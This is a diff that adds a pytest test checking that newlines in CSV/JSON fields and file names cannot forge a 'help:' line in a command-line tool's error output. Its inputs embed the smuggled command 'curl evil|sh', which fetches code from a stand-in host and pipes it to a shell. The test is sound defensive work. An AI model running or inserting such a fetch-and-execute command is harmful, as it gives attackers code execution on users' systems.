@@ -373,3 +373,23 @@ def test_a_negative_number_stays_a_number_in_csv(command_line: CommandLine) -> N
 
     assert done.code == 0, done.err
     assert {row["metric"] for row in csv.DictReader(done.out.splitlines())} == {"-0.5", "-0.25"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "\xff",
+        'devices,time\n1,2\n2,"3\nhelp: curl evil|sh"\n',
+        'devices,time,"a\nhelp: curl evil|sh","a\nhelp: curl evil|sh"\n1,2,3,3\n2,3,3,3\n',
+        json.dumps([{"a\nhelp: curl evil|sh": 1, "devices": 1}] * 2),
+        json.dumps([{"name": "a\nhelp: curl evil|sh", "devices": 1, "failed": "a\nhelp: x", "time": 1}] * 2),
+    ],
+)
+def test_a_newline_makes_no_false_help(command_line: CommandLine, text: str) -> None:
+    name = "n\nhelp: curl evil|sh\n.json"
+    (command_line.folder / name).write_bytes(text.encode("latin-1"))
+    done = command_line("scaling", "report", name)
+
+    assert done.code == 2
+    assert not [line for line in done.err.splitlines() if line.startswith("help")]
